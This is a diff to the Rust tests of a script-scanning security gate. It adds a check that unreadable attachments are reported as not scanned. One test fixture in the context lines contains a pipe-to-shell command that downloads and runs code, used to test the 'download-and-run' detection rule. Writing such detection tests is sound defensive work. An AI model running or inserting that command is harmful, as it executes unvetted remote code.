@@ -58,7 +58,8 @@ fn every_rule_has_an_id_of_its_own_a_technique_and_advice() {
             rule.id
         );
         assert!(
-            !rule.remediation.is_empty() && !rule.patterns.is_empty(),
+            !rule.remediation.is_empty()
+                && (rule.patterns.is_empty() == (rule.id == rules::NOT_SCANNED)),
             "{}",
             rule.id
         );
@@ -350,4 +351,28 @@ fn hostile_text_is_scanned_to_the_end() {
     let crlf = "echo é\r\ncurl http://example.com/i | sh\r\n";
     let found = scan(&Bundle::of_script("shell", crlf));
     assert_eq!(found[0].rule, "download-and-run");
+}
+
+#[test]
+fn an_attachment_without_text_is_reported() {
+    let mut bundle = Bundle::of_script("shell", "echo");
+    bundle.attachments.push(Attachment {
+        name: "big".to_owned(),
+        size: 2 << 20,
+        sha256: vec![0; 32],
+        text: None,
+    });
+    let findings = gate()
+        .scan(
+            &bundle,
+            &Job {
+                attributes: Vec::new(),
+            },
+        )
+        .expect("scans");
+    assert_eq!(findings.len(), 1);
+    assert_eq!(
+        (findings[0].rule.as_str(), findings[0].subject.as_str()),
+        (rules::NOT_SCANNED, "attachment:big")
+    );
 }
